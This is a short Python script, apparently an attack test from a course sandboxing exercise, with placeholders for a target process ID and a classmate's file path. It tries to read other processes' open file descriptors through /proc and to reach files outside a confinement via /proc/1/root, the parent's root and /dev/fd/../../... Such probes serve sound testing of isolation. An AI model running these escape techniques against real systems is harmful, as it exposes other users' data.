"""Opens what others have open, and what a path was before it was forbidden, through /proc."""
# attack: week=03 exercise=pyramid
import os

for number in (@PID@, os.getppid(), "self"):
    for descriptor in (*range(12), 100, 101, 102):
        try:
            file = os.open(f"/proc/{number}/fd/{descriptor}", os.O_RDONLY | os.O_NONBLOCK)
            print(number, descriptor, os.read(file, 100))
        except OSError as error:
            if number == "self" and descriptor == 0:
                print("refused", error)
for root in ("/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/root", "/dev/fd/../../.."):
    try:
        print(open(root + "@CLASSMATE@").read())
    except OSError as error:
        print("refused", error)
